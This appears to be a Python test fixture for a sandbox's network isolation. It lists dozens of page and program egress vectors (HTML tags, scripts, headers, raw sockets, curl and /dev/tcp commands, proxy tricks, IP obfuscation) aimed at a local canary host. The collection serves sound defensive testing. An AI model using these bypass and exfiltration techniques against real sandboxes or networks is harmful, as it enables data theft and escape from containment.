"""Ways out of a page and out of a program, each by name, each to a port of its own of the canary.

In the texts: URL (the canary, `http://127.0.0.2:PORT/NAME`), PORT, HOME (the allowed server, `http://127.0.0.1:...`),
and TO302 and its like (a path of the allowed server that redirects to the canary).
"""

from __future__ import annotations

from dataclasses import dataclass, field

from tests.page_server import Page, PageServer
from tests.sandboxes.canary import HOST

REDIRECTS = (301, 302, 303, 307, 308)


@dataclass(frozen=True, slots=True)
class Vector:
    """A page with a way out."""

    name: str
    body: str
    headers: dict[str, str] = field(default_factory=dict)
    content_type: str = "text/html; charset=utf-8"

    def serve(self, server: PageServer, port: int) -> str:
        """Puts it on the allowed server; returns its address."""
        for status in REDIRECTS:
            place = {"Location": f"http://{HOST}:{port}/{self.name}"}
            server.add(f"/to{status}/{port}", Page(b"", status=status, headers=place))
        server.add(f"/worker/{port}", Page(self._filled(WORKER, server, port).encode(), "text/javascript"))
        headers = {name: self._filled(value, server, port) for name, value in self.headers.items()}
        body = self._filled(self.body, server, port)
        return server.add(f"/{self.name}", Page(body.encode(), self.content_type, headers=headers))

    def _filled(self, text: str, server: PageServer, port: int) -> str:
        for status in REDIRECTS:
            text = text.replace(f"TO{status}", f"/to{status}/{port}")
        text = text.replace("URL", f"http://{HOST}:{port}/{self.name}").replace("HOME", server.url)
        return text.replace("PORT", str(port))


WORKER = "fetch('URL', {mode: 'no-cors'}).catch(() => 0)"
_IMAGE = "<img src='URL'>"


def _script(text: str) -> str:
    return f"<body><script type=module>{text}</script>"


def _tag(name: str, text: str) -> str:
    """An element in a page that says nothing else."""
    return f"<body>{text}<i>{name}</i>"


_TAGS = {
    "meta-refresh": "<meta http-equiv=refresh content='0;url=URL'>",
    "iframe": "<iframe src='URL'></iframe>",
    "iframe-sandboxed": "<iframe sandbox src='URL'></iframe>",
    "iframe-308": "<iframe src='TO308'></iframe>",
    "srcdoc": '<iframe srcdoc="<img src=URL>"></iframe>',
    "data-frame": "<iframe src='data:text/html,<img src=URL>'></iframe>",
    "javascript-frame": "<iframe src=\"javascript:`<img src='URL'>`\"></iframe>",
    "object": "<object data='URL'></object>",
    "embed": "<embed src='URL' type='text/html'>",
    "object-pdf": "<object data='URL' type='application/pdf'></object>",
    "image": _IMAGE,
    "image-301": "<img src='TO301'>",
    "image-srcset": "<img srcset='URL 1x'>",
    "picture": "<picture><source srcset='URL'><img></picture>",
    "input-image": "<input type=image src='URL'>",
    "body-background": "<table background='URL'><td>x</table>",
    "base-href": "<base href='URL/'><img src='relative'>",
    "script": "<script src='URL'></script>",
    "script-302": "<script src='TO302'></script>",
    "script-module": "<script type=module src='URL'></script>",
    "stylesheet": "<link rel=stylesheet href='URL'>",
    "css-import": "<style>@import 'URL';</style>",
    "css-background": "<style>body { background: url('URL') }</style>",
    "css-list-image": "<style>li { list-style-image: url('URL') }</style><li>x",
    "css-image-set": "<style>body { background: image-set('URL' 1x) }</style>",
    "css-mask": "<style>i { mask-image: url('URL') }</style>",
    "font-face": "<style>@font-face { font-family: a; src: url('URL') } i { font-family: a }</style>",
    "video": "<video src='URL' autoplay muted></video>",
    "video-source": "<video autoplay muted><source src='URL'></video>",
    "video-poster": "<video poster='URL'></video>",
    "audio": "<audio src='URL' preload=auto></audio>",
    "video-track": "<video crossorigin src='HOME/none'><track default kind=captions src='URL'></video>",
    "svg-image": "<svg><image href='URL' width=9 height=9 /></svg>",
    "svg-feimage": "<svg><filter id=f><feImage href='URL'/></filter><rect width=9 height=9 filter='url(#f)'/></svg>",
    "preload": "<link rel=preload as=image href='URL'>",
    "prefetch": "<link rel=prefetch href='URL'>",
    "preconnect": "<link rel=preconnect href='URL'>",
    "modulepreload": "<link rel=modulepreload href='URL'>",
    "speculation-prefetch": '<script type=speculationrules>{"prefetch": [{"urls": ["URL"], "eagerness": "immediate"}]}'
    "</script>",
    "import-map": '<script type=importmap>{"imports": {"a": "URL"}}</script><script type=module>import "a"</script>',
    "host-decimal": "<img src='http://2130706434:PORT/'>",
    "host-hex": "<img src='http://0x7f000002:PORT/'>",
    "host-octal": "<img src='http://0177.0.0.02:PORT/'>",
    "host-short": "<img src='http://127.2:PORT/'>",
    "host-mapped": "<img src='http://[::ffff:127.0.0.2]:PORT/'>",
    "host-ipv6": "<img src='http://[::1]:PORT/'>",
    "host-dot": "<img src='http://127.0.0.2.:PORT/'>",
    "host-backslash": "<img src='http:\\\\127.0.0.2:PORT/'>",
    "host-full-width": "<img src='http://１２７.0.0.2:PORT/'>",
    "host-name": "<img src='http://localhost:PORT/'>",
    "host-name-dot": "<img src='http://localhost.:PORT/'>",
    "host-name-below": "<img src='http://a.localhost:PORT/'>",
    "host-lookalike-suffix": "<img src='http://allowed.test.evil.test:PORT/'>",
    "host-lookalike-prefix": "<img src='http://evilallowed.test:PORT/'>",
    "host-lookalike-digits": "<img src='http://127.0.0.1.evil.test:PORT/'>",
    "host-rebound": "<img src='http://rebound.cdn.test:PORT/'>",
    "scheme-relative": "<img src='//127.0.0.2:PORT/'>",
    "https": "<img src='https://127.0.0.2:PORT/'>",
}
_SCRIPTS = {
    "link": "Object.assign(document.createElement('a'), {href: 'URL'}).click()",
    "link-new-tab": "Object.assign(document.createElement('a'), {href: 'URL', target: '_blank'}).click()",
    "link-ping": "const a = Object.assign(document.createElement('a'), {href: '#x', ping: 'URL'});"
    "document.body.append(a); a.click()",
    "link-download": "Object.assign(document.createElement('a'), {href: 'URL', download: 'x'}).click()",
    "location": "location.href = 'URL'",
    "location-replace": "location.replace('URL')",
    "location-302": "location.href = 'TO302'",
    "location-user": "location.href = 'http://127.0.0.1@127.0.0.2:PORT/'",
    "window-open": "open('URL')",
    "window-written": "open('about:blank').document.write(`<img src='URL'>`)",
    "blob-frame": "const f = document.createElement('iframe');"
    "const inside = new Blob([`<img src='http://127.0.0.2:PORT/'>`], {type: 'text/html'});"
    "f.src = self['UR' + 'L']['createObjectUR' + 'L'](inside);"
    "document.body.append(f)",
    "form-get": "const f = document.createElement('form'); f.action = 'URL'; document.body.append(f); f.submit()",
    "form-post": "const f = document.createElement('form'); f.action = 'URL'; f.method = 'post';"
    "document.body.append(f); f.submit()",
    "form-303": "const f = document.createElement('form'); f.action = 'TO303'; document.body.append(f); f.submit()",
    "fetch": "fetch('URL').catch(() => 0)",
    "fetch-opaque": "fetch('URL', {mode: 'no-cors', method: 'POST', body: 'secret'}).catch(() => 0)",
    "fetch-307": "fetch('TO307').catch(() => 0)",
    "fetch-leaving": "onpagehide = () => fetch('URL', {keepalive: true, mode: 'no-cors'});"
    "setTimeout(() => location = 'HOME/left', 100)",
    "request": "const x = new XMLHttpRequest(); x.open('GET', 'URL'); x.send()",
    "request-synchronous": "const x = new XMLHttpRequest(); x.open('GET', 'URL', false); try { x.send() } catch {}",
    "beacon": "navigator.sendBeacon('URL', 'secret')",
    "event-source": "new EventSource('URL')",
    "event-source-302": "new EventSource('TO302')",
    "socket": "new WebSocket('ws://127.0.0.2:PORT/')",
    "socket-name": "new WebSocket('ws://localhost:PORT/')",
    "socket-tls": "new WebSocket('wss://127.0.0.2:PORT/')",
    "import": "import('URL').catch(() => 0)",
    "worker": "new Worker('/worker/PORT')",
    "worker-import": "new Worker('data:text/javascript,' + encodeURIComponent(\"importScripts('URL')\"))",
    "worker-socket": "new Worker('data:text/javascript,' + encodeURIComponent(\"new WebSocket('ws://127.0.0.2:PORT')\"))",
    "worker-shared": "new SharedWorker('/worker/PORT')",
    "worker-service": "navigator.serviceWorker.register('/worker/PORT')",
    "worklet-audio": "new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule('URL').catch(() => 0)",
    "worklet-paint": "CSS.paintWorklet.addModule('URL').catch(() => 0)",
    "image-object": "new Image().src = 'URL'",
    "font-object": "new FontFace('a', \"url('URL')\").load().catch(() => 0)",
    "stun": "CALL('stun:127.0.0.2:PORT')",
    "turn": "CALL('turn:127.0.0.2:PORT')",
    "turn-tcp": "CALL('turn:127.0.0.2:PORT?transport=tcp')",
    "turn-tls": "CALL('turns:127.0.0.2:PORT?transport=tcp')",
    "stun-name": "CALL('stun:localhost:PORT')",
    "peer": "const c = new RTCPeerConnection(), d = new RTCPeerConnection(); c.createDataChannel('a');"
    "await c.setLocalDescription(await c.createOffer()); await d.setRemoteDescription(c.localDescription);"
    "await d.setLocalDescription(await d.createAnswer()); await c.setRemoteDescription(d.localDescription);"
    "await c.addIceCandidate({sdpMid: '0', candidate: 'candidate:1 1 udp 2122260223 127.0.0.2 PORT typ host'})",
    "transport": "new WebTransport('https://127.0.0.2:PORT/').ready.catch(() => 0)",
}
_CALL = (
    "const CALL = async urls => {"
    "const c = new RTCPeerConnection({iceServers: [{urls, username: 'a', credential: 'b'}]});"
    "c.createDataChannel('a'); await c.setLocalDescription(await c.createOffer()) };"
)

PAGES = (
    *(Vector(name, _tag(name, text)) for name, text in _TAGS.items()),
    *(Vector(name, _script((_CALL if "CALL" in text else "") + text)) for name, text in _SCRIPTS.items()),
    Vector("header-refresh", "<body>x", {"Refresh": "0;url=URL"}),
    Vector("header-link", "<body>x", {"Link": "<URL>; rel=preload; as=image"}),
    Vector("header-link-preconnect", "<body>x", {"Link": "<URL>; rel=preconnect"}),
    Vector(
        "csp-report",
        "<body><img src='data:image/gif,x'>",
        {"Content-Security-Policy": "img-src 'none'; report-uri URL"},
    ),
    Vector(
        "xml-stylesheet",
        "<?xml version='1.0'?><?xml-stylesheet type='text/css' href='URL'?><a>x</a>",
        content_type="application/xml",
    ),
    Vector(
        "svg-page",
        "<svg xmlns='http://www.w3.org/2000/svg'><image href='URL' width='9' height='9'/></svg>",
        content_type="image/svg+xml",
    ),
)
"""What pages can try."""

WHOLE_TABS = {
    *("meta-refresh", "header-refresh", "link", "link-new-tab", "location", "location-302", "window-open", "form-post"),
    *("fetch-leaving", "speculation-prefetch", "location-user", "svg-page"),
}
"""Those that are tried as a tab's own document; the others share tabs, each in a frame."""

DIRECT = {
    "tcp": "socket.create_connection(('127.0.0.2', PORT), 3).send(b'secret')",
    "tcp-name": "socket.create_connection(('localhost', PORT), 3).send(b'secret')",
    "tcp-allowed-host": "socket.create_connection(('127.0.0.1', PORT), 3).send(b'secret')",
    "tcp-any": "socket.create_connection(('0.0.0.0', PORT), 3).send(b'secret')",
    "tcp-ipv6": "socket.create_connection(('::1', PORT), 3).send(b'secret')",
    "tcp-mapped": "socket.create_connection(('::ffff:127.0.0.2', PORT), 3).send(b'secret')",
    "tcp-machine": "socket.create_connection(('MACHINE', PORT), 3).send(b'secret')",
    "tcp-fast-open": "socket.socket().sendto(b'secret', socket.MSG_FASTOPEN, ('127.0.0.2', PORT))",
    "udp": "socket.socket(type=socket.SOCK_DGRAM).sendto(b'secret', ('127.0.0.2', PORT))",
    "udp-empty": "socket.socket(type=socket.SOCK_DGRAM).sendto(b'', ('127.0.0.2', PORT))",
    "udp-ipv6": "socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'secret', ('::1', PORT))",
    "udp-machine": "socket.socket(type=socket.SOCK_DGRAM).sendto(b'secret', ('MACHINE', PORT))",
    "dns": "socket.socket(type=socket.SOCK_DGRAM).sendto("
    "b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\4test\\0\\0\\1\\0\\1', ('127.0.0.2', PORT))",
    "unix-abstract": "u = socket.socket(socket.AF_UNIX); u.connect('\\0ABSTRACT'); u.send(b'secret')",
    "unix-file": "u = socket.socket(socket.AF_UNIX); u.connect('FILE'); u.send(b'secret')",
    "http-unproxied": "run('curl', '-m3', '--noproxy', '*', 'http://127.0.0.2:PORT/')",
    "http-without-variables": "run('env', '-i', 'curl', '-m3', 'http://127.0.0.2:PORT/')",
    "shell": "run('bash', '-c', 'echo secret > /dev/tcp/127.0.0.2/PORT')",
    "shell-udp": "run('bash', '-c', 'echo secret > /dev/udp/127.0.0.2/PORT')",
}
"""What programs can try by themselves; Python."""

_CURL = "run('curl', '-m3', '-x', 'PROXY', {})"
_RAW = "s = socket.create_connection(('127.0.0.1', 3128), 3); s.settimeout(3); {}"
PROXIED = {
    "proxy-get": _CURL.format("'http://127.0.0.2:PORT/'"),
    "proxy-connect": _CURL.format("'-p', 'http://127.0.0.2:PORT/'"),
    "proxy-tls": _CURL.format("'-k', 'https://127.0.0.2:PORT/'"),
    "proxy-name": _CURL.format("'-p', 'http://localhost:PORT/'"),
    "proxy-ipv6": _CURL.format("'-p', 'http://[::1]:PORT/'"),
    "proxy-host-header": _CURL.format("'-H', 'Host: 127.0.0.1', 'http://127.0.0.2:PORT/'"),
    "proxy-302": "run('curl', '-m3', '-L', '-x', 'PROXY', 'HOMETO302')",
    "proxy-post": _CURL.format("'-d', 'secret', 'http://127.0.0.2:PORT/'"),
    "proxy-user": _CURL.format("'http://127.0.0.1@127.0.0.2:PORT/'"),
    "proxy-variables": "run('curl', '-m3', 'http://127.0.0.2:PORT/')",
    "socks-name": "run('curl', '-m3', '-x', 'socks5h://127.0.0.1:3128', 'http://localhost:PORT/')",
    "socks-address": "run('curl', '-m3', '-x', 'socks5://127.0.0.1:3128', 'http://127.0.0.2:PORT/')",
    "socks-ipv6": "run('curl', '-m3', '-x', 'socks5://127.0.0.1:3128', 'http://[::1]:PORT/')",
    "proxy-decimal": _RAW.format(
        "s.send(b'CONNECT 2130706434:PORT HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n\\r\\n'); s.recv(99)"
    ),
    "proxy-absolute": _RAW.format(
        "s.send(b'GET http://127.0.0.2:PORT/ HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n\\r\\n'); s.recv(99)"
    ),
    "proxy-old": _RAW.format("s.send(b'GET http://127.0.0.2:PORT/ HTTP/1.0\\r\\n\\r\\n'); s.recv(99)"),
}
"""What programs can try through the proxy."""
